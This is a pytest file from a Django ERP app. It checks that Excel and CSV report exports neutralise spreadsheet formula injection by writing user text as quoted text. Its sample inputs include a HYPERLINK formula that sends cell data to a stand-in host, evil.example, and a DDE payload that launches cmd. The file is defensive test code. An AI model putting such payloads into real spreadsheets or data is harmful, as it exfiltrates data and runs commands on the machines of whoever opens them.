"""User text that a spreadsheet would run as a formula (= + - @ tab CR) is written as text in
every Excel export and CSV download; numbers stay numbers and the code's own SUM totals stay
formulas."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from erp.accounts.roles import Role
from erp.core.spreadsheet import as_text
from erp.finance import services as finance
from erp.sales import services as sales

NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
]


def test_as_text_quotes_formula_starts_and_leaves_the_rest():
    for text in NASTY:
        assert as_text(text) == "'" + text
    for value in ("Asha", "", "a=b", 12, Decimal("-5.00"), -3, None):
        assert as_text(value) == value


def _period():
    today = timezone.localdate()
    return {"start": today.isoformat(), "end": (today + timedelta(days=1)).isoformat()}


def _cells(content: bytes):
    return [
        cell
        for sheet in load_workbook(io.BytesIO(content)).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


@pytest.mark.django_db
def test_excel_reports_write_user_text_as_text(api, users, two_sites, make_client):
    agent, finance_user = users[Role.AGENT], users[Role.FINANCE]
    site_a, _site_b = two_sites["sites"]
    for index, text in enumerate(NASTY):
        finance.record_expense(
            actor=finance_user,
            category="rent",
            site=site_a,
            amount=Decimal("10.00"),
            spent_on=timezone.localdate(),
            payee=text,
            note=text,
        )
        buyer = make_client(site=site_a, name=text, phone=f"+25571299{index:04d}")
        sales.sell(
            seller=agent,
            idempotency_key=uuid.uuid4(),
            payment_method="mobile",
            payment_reference=text[:64],
            package=two_sites["packages"][0],
            client=buyer,
        )
    client = api(finance_user)
    for report in ("expenses", "sales", "profit"):
        response = client.get(f"/api/v1/reports/{report}.xlsx", _period())
        assert response.status_code == 200, report
        cells = _cells(response.content)
        nasty = [c for c in cells if isinstance(c.value, str) and c.value.lstrip("'") in NASTY]
        if report != "profit":
            assert nasty, f"{report}: the user text is missing"
        for cell in nasty:
            assert cell.data_type == "s" and cell.value.startswith("'"), (report, cell.value)
        formulas = [c for c in cells if c.data_type == "f"]
        assert formulas and all(c.value.startswith("=SUM(") for c in formulas), report
        assert any(isinstance(c.value, int | float) for c in cells)  # money stays numbers


@pytest.mark.django_db
def test_batch_codes_csv_writes_names_as_text(api, users, make_router, admin_user):
    from erp.vouchers import services as vouchers

    router = make_router()
    package = vouchers.save_package(
        actor=admin_user,
        name="=HYPERLINK(1)",
        price=Decimal("1000"),
        validity_seconds=86400,
        sites=[router.site],
    )
    batch = vouchers.request_batch(
        actor=None, package=package, router=router, quantity=2, preapproved=True
    )
    vouchers.generate_batch(batch)
    response = api(users[Role.SALES]).get(f"/api/v1/voucher-batches/{batch.pk}/codes/")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][2] == "'=HYPERLINK(1)" and rows[1][3] == "1000.00"
